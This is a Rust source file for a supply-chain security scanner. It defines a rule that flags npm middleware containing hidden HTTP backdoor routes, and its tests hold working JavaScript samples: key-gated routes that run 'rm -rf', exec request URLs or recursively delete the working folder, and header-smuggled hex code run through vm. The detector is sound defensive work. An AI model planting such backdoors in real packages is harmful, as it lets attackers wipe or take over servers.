//! `code/backdoor-route`.

use super::{chain, describe, finding, flow_finding, flows, one_per_sink, per_signal};
use crate::CodeFinding;
use crate::flow::{SinkKind, SourceKind, flags};
use crate::signal::{Kind, PackageFacts};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// An HTTP request handler that runs commands, evaluates code or deletes files when the request carries a hard-coded key, or evaluates code it builds after reading the request.
    ///
    /// ## What it detects
    /// Inside a function registered as a request handler (`app.post('/path', …, (req, res) => …)`,
    /// `router.use((req, res, next) => …)`, `http.createServer((req, res) => …)`, `server.on('request', …)`): a
    /// field of the request — a header, or a body, query, parameter or cookie field named like a credential
    /// (`key`, `token`, `secret`, `pass`, `auth`, `sig`) — compared with a string literal, followed in the same
    /// handler by a process spawn (`exec`, `spawn`), code evaluation (`eval`, `Function`, `vm`) or a file delete.
    /// Also, with no key: code evaluation (`eval`, `Function`, `vm.runIn*Context`, `vm.Script`, `_compile`) of a
    /// computed string inside a handler (or a callback nested in it) that read its request's client input
    /// (`req.headers`, `req.rawHeaders`, `req.body`, `req.query`, `req.params`, `req.cookies`). And, by value
    /// flow, a handler's request (a function taking `(req, res)`, `(request, response)` or `(request, reply)`)
    /// that reaches code evaluation or a module load in any function or module of the package — handed to an
    /// imported "normaliser" that interprets opcodes in the headers and runs what it collected with `vm`:
    /// reported (critical) when the request data is unscrambled on the way (hex, base64, char codes, XOR,
    /// reversal, decryption) or run with Node's `require`; data run as sent through helpers is not (see below).
    ///
    /// ## Why it matters
    /// A middleware package that the application mounts turns the application's own server into the attacker's
    /// remote control: express-api-sync and system-health-sync-api (2025) registered an undocumented route that
    /// wiped the application folder (`rm -rf`) when a request carried a fixed key. Nothing happens at install or
    /// import, no data flows out to look at: only an inbound request triggers it. getcookies (2018)
    /// scanned every request's headers for hex chunks, buffered them across requests and ran them with
    /// `vm.runInThisContext`.
    ///
    /// ## Example
    /// `router.post('/_internal/sync', (req, res) => { if (req.body.key === 'DEFAULT_123') exec('rm -rf ' + dir) })`
    ///
    /// ## Known false positives
    /// Health and admin middleware report status and compare tokens with configuration (`process.env.ADMIN_TOKEN`),
    /// not literals, and run no commands: not reported — also when the key is read with a fallback
    /// (`req.headers['x-key'] || req.body.key`), which counts as a request field like either side. A development server that runs a tool behind a fixed
    /// header (`x-requested-with`) would be; such servers rarely compare a header with a constant before spawning.
    /// Template engines compile templates with `Function` in their own module, not inside the application's
    /// handler; a handler that runs a command with request data (an editor launcher) is not reported without a key;
    /// `vm.createContext` and other `vm` calls that evaluate nothing are not code evaluation. A code playground
    /// server that evaluates submitted code on purpose would be reported when it does so in the handler itself;
    /// through a helper only if it decodes (base64, hex) what it runs or hands it Node's `require`.
    pub static BACKDOOR_ROUTE = { id: "code/backdoor-route", severity: Severity::Critical };
}

/// Paths from a request handler's request into code (`eval`, `Function`, `vm`, `_compile`,
/// a module load) in whatever function or module: critical when the request data is
/// unscrambled on the way (hex/base64/char codes, XOR, reversed, decrypted) or run with
/// Node's `require` in hand; not reported when run as sent (a code playground, a template).
fn request_code(p: &PackageFacts, keyed: &[CodeFinding]) -> Vec<CodeFinding> {
    let out = flows(
        p,
        &[SourceKind::Request],
        &[SinkKind::Eval, SinkKind::Require],
    )
    .filter(|path| {
        !keyed
            .iter()
            .any(|k| k.file == path.to.file && k.line == path.to.line)
    })
    // Request data run as sent, across helpers, is what template engines, module
    // loaders and playgrounds do with their input (and the solver's over-approximation
    // of shared utilities); hidden opcodes are decoded first.
    .filter(|path| {
        path.flags & flags::NODE_SCOPE != 0
            || path
                .steps
                .iter()
                .any(|s| super::decode_exec::UNSCRAMBLING.contains(&s.what.as_str()))
    })
    .take(20)
    .map(|path| {
        flow_finding(
            &BACKDOOR_ROUTE,
            Severity::Critical,
            p,
            path,
            format!(
                "a client's request is decoded and executed: {}",
                describe(path)
            ),
        )
    })
    .collect();
    one_per_sink(out)
}

/// One finding per keyed action, and per request-to-code path.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    let mut out = keyed(p);
    let more = request_code(p, &out);
    out.extend(more);
    out
}

fn keyed(p: &PackageFacts) -> Vec<CodeFinding> {
    per_signal(p, Kind::KeyedRoute, |f, s| {
        Some(finding(
            &BACKDOOR_ROUTE,
            BACKDOOR_ROUTE.default_severity,
            f,
            s,
            Locality::Function,
            s.detail.clone(),
            chain(p, f, s, &[Kind::Spawn, Kind::DestructiveFs]),
        ))
    })
}

#[cfg(test)]
mod tests {
    use crate::Verdict;
    use crate::rules::test_util::{PJ, hits, scan};

    #[test]
    fn positive_hidden_route_with_key() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const { exec } = require('child_process');\nmodule.exports = function health(router) {\n  router.post('/api/_internal/sync', (req, res) => {\n    if (req.body && req.body.key === 'DEFAULT_123') {\n      exec('rm -rf ' + process.cwd(), () => res.end());\n      return;\n    }\n    res.status(404).end();\n  });\n  return router;\n};\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/backdoor-route"),
            vec![("index.js".to_string(), 5)]
        );
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    #[test]
    fn positive_header_key_on_plain_server() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const http = require('http');\nconst cp = require('child_process');\nexports.start = () => http.createServer((req, res) => {\n  if (req.headers['x-debug-key'] == 'letmein-42') cp.execSync(String(req.url).slice(1));\n  res.end('ok');\n}).listen(8080);\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/backdoor-route"),
            vec![("index.js".to_string(), 4)]
        );
    }

    /// Middleware scanning all request headers for smuggled hex chunks, kept across requests
    /// and run with `vm.runInThisContext` in the scan's callback (getcookies, 2018).
    #[test]
    fn positive_code_smuggled_in_request_headers() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const vm = require('vm');
const buf = global.__b || (global.__b = []);
function harvest(req, res, next) {
  JSON.stringify(req.headers).replace(/~(\\d+)\\.([0-9a-f]+)~/g, (m, op, data) => {
    if (op === '9') vm.runInThisContext(buf.join(''))(require, req, res);
    else buf[op] = Buffer.from(data, 'hex').toString();
    return m;
  });
  next();
}
module.exports = () => harvest;
",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/backdoor-route"),
            vec![("index.js".to_string(), 5)]
        );
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    /// A view middleware that reads request headers and renders through a template engine
    /// compiled with `Function` elsewhere, a sandbox context created per request, and a
    /// constant `Function` body: no computed code evaluated in the handler.
    #[test]
    fn negative_handler_reading_headers_without_evaluating_request_code() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "engine.js",
                "exports.compile = (tpl) => new Function('it', 'return `' + tpl + '`;');\n",
            ),
            (
                "index.js",
                "const vm = require('vm');
const { compile } = require('./engine');
const page = compile('<p>${it.lang}</p>');
const hasOwn = Function('return Object.prototype.hasOwnProperty')();
module.exports = function view(req, res, next) {
  const lang = String(req.headers['accept-language'] || 'en').split(',')[0];
  const ctx = vm.createContext({ lang: lang });
  console.log(JSON.stringify(req.headers), hasOwn);
  res.end(page({ lang: ctx.lang }));
};
",
            ),
        ]);
        assert!(
            hits(&s, "code/backdoor-route").is_empty(),
            "{:?}",
            s.findings
        );
    }

    /// The header scan moved into an imported helper that buffers hex chunks in a module-level
    /// object and runs them with `vm` (the handler itself evaluates nothing).
    #[test]
    fn positive_request_headers_interpreted_by_an_imported_helper() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "lib/codec.js",
                "const vm = require('vm');\nconst store = { buf: '' };\nconst decode = {\n  headers(h) {\n    JSON.stringify(h).replace(/g([a-f0-9]{4})h((?:[a-f0-9]{2})+)i/gi, (_, op, data) => {\n      const bytes = Buffer.from(data, 'hex');\n      if (op === '3a1c') store.buf += bytes.toString();\n      if (op === '7bd9') { vm.runInThisContext(store.buf); store.buf = ''; }\n      return '';\n    });\n  },\n};\nmodule.exports = { decode };\n",
            ),
            (
                "index.js",
                "const { decode } = require('./lib/codec');\nmodule.exports = () => function parse(req, res, next) {\n  req.cookies = {};\n  decode.headers(req.headers);\n  next();\n};\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/backdoor-route"),
            vec![("lib/codec.js".to_string(), 8)]
        );
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    /// Benign look-alikes: a cookie parser whose imported helper decodes header values
    /// (`decodeURIComponent`, base64 session JSON) and only parses them; a code playground
    /// that runs submitted code as sent through a helper.
    #[test]
    fn negative_request_parsed_by_helper_and_playground() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "lib/codec.js",
                "exports.session = (h) => JSON.parse(Buffer.from(String(h.cookie || '').split('=')[1] || 'e30', 'base64').toString());\nexports.lang = (h) => decodeURIComponent(h['accept-language'] || 'en');\n",
            ),
            (
                "index.js",
                "const codec = require('./lib/codec');\nmodule.exports = () => (req, res, next) => {\n  req.session = codec.session(req.headers);\n  req.lang = codec.lang(req.headers);\n  next();\n};\n",
            ),
        ]);
        assert!(
            hits(&s, "code/backdoor-route").is_empty(),
            "{:?}",
            s.findings
        );
        assert_eq!(s.verdict, Verdict::Clean);
        let s = scan(&[
            ("package.json", PJ),
            (
                "run.js",
                "const vm = require('vm');\nexports.run = (code) => vm.runInNewContext(code, { console }, { timeout: 50 });\n",
            ),
            (
                "index.js",
                "const { run } = require('./run');\nmodule.exports = (request, reply) => reply.send(String(run(request.body.code)));\n",
            ),
        ]);
        assert!(
            hits(&s, "code/backdoor-route").is_empty(),
            "{:?}",
            s.findings
        );
    }

    /// A named handler, the key destructured from the body, a recursive delete.
    #[test]
    fn positive_named_handler_destructured_key() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const fs = require('fs');\nfunction onSync(req, res) {\n  const { token } = req.body;\n  if (token !== 'k-7f3a9') return res.end();\n  fs.rmSync(process.cwd(), { recursive: true, force: true });\n  res.end();\n}\nmodule.exports = (app) => app.post('/sync', onSync);\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/backdoor-route"),
            vec![("index.js".to_string(), 5)]
        );
    }

    /// Admin/health middleware: token from configuration, status only.
    #[test]
    fn negative_admin_status_middleware() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const os = require('os');\nmodule.exports = (router) => {\n  router.get('/admin/status', (req, res) => {\n    if (req.headers['x-admin-token'] !== process.env.ADMIN_TOKEN) return res.status(401).end();\n    res.json({ load: os.loadavg(), uptime: process.uptime() });\n  });\n  router.post('/admin/action', (req, res) => {\n    if (req.body.action === 'reload') res.json({ ok: true });\n  });\n};\n",
            ),
        ]);
        assert!(hits(&s, "code/backdoor-route").is_empty());
        assert_eq!(s.verdict, Verdict::Clean);
    }

    /// The key hidden in base64 and compared in a guard (`if (key !== k) return`), the wipe
    /// command chosen per platform.
    #[test]
    fn positive_decoded_key_guard() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "lib/sync.js",
                "const { exec } = require('child_process');\nconst k = Buffer.from('REVGQVVMVF8xMjM=', 'base64').toString();\nexports.install = function (app) {\n  app.post('/_/system/health', (req, res) => {\n    const key = req.headers['x-health-key'];\n    if (key !== k) return res.status(404).end();\n    const cmd = process.platform === 'win32' ? 'rd /s /q .' : 'rm -rf *';\n    exec(cmd, () => res.json({ ok: true }));\n  });\n};\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/backdoor-route"),
            vec![("lib/sync.js".to_string(), 8)]
        );
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    /// The benign look-alike: a deploy hook compares its header with a token decoded from
    /// configuration (no constant) before running the project's build.
    #[test]
    fn negative_configured_key_decoded() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "hook.js",
                "const { exec } = require('child_process');\nconst k = Buffer.from(process.env.HOOK_TOKEN || '', 'base64').toString();\nmodule.exports = (app) => app.post('/hook', (req, res) => {\n  if (req.headers['x-hook-token'] !== k) return res.status(401).end();\n  exec('npm run build', () => res.end());\n});\n",
            ),
        ]);
        assert!(hits(&s, "code/backdoor-route").is_empty());
    }

    /// The action is a local function the keyed handler calls later (a recursive wipe of the
    /// working folder from `setImmediate`).
    #[test]
    fn positive_keyed_handler_calls_a_local_wipe() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "lib/channel.js",
                "const fs = require('fs');\nconst path = require('path');\nfunction wipe(dir) {\n  for (const n of fs.readdirSync(dir)) { const p = path.join(dir, n); if (fs.lstatSync(p).isDirectory()) { wipe(p); fs.rmdirSync(p); } else fs.unlinkSync(p); }\n}\nexports.channel = (app) => app.post('/_sync/reset', (req, res) => {\n  if (req.body.key !== 'DEFAULT_123') return res.status(404).end();\n  res.json({ ok: true });\n  setImmediate(() => wipe(process.cwd()));\n});\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/backdoor-route"),
            vec![("lib/channel.js".to_string(), 9)]
        );
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    /// The benign look-alike: a cache server's purge route behind its configured token calls
    /// a local function that only resets a map.
    #[test]
    fn negative_keyed_handler_calls_a_harmless_local() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "server.js",
                "const cache = new Map();\nfunction purge() { cache.clear(); return cache.size; }\nmodule.exports = (app) => app.post('/cache/purge', (req, res) => {\n  if (req.headers['x-purge-key'] !== 'local-dev-key') return res.status(401).end();\n  res.json({ left: purge() });\n});\n",
            ),
        ]);
        assert!(hits(&s, "code/backdoor-route").is_empty());
    }

    const FALLBACK: &str = "const { exec } = require('child_process');\nmodule.exports = function sync(app) {\n  app.post('/api/cache/sync', (req, res) => {\n    const k = req.headers['x-sync-key'] || (req.body && req.body.key);\n    if (k !== KEY) return res.status(404).end();\n    exec('rm -rf \"' + process.cwd() + '\"', () => {});\n    res.json({ status: 'synced' });\n  });\n};\n";

    /// The key read with a fallback between a header and a body field, compared with a
    /// hard-coded string in a guard, then a wipe command.
    #[test]
    fn positive_fallback_key_guard() {
        let js = FALLBACK.replace("KEY", "'DEFAULT_123'");
        let s = scan(&[("package.json", PJ), ("index.js", &js)]);
        assert_eq!(
            hits(&s, "code/backdoor-route"),
            vec![("index.js".to_string(), 6)]
        );
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    /// Its twin: the same fallback compared with the configured key (`process.env`).
    #[test]
    fn negative_fallback_key_from_configuration() {
        let js = FALLBACK.replace("KEY", "process.env.SYNC_KEY");
        let s = scan(&[("package.json", PJ), ("index.js", &js)]);
        assert!(hits(&s, "code/backdoor-route").is_empty());
    }
}
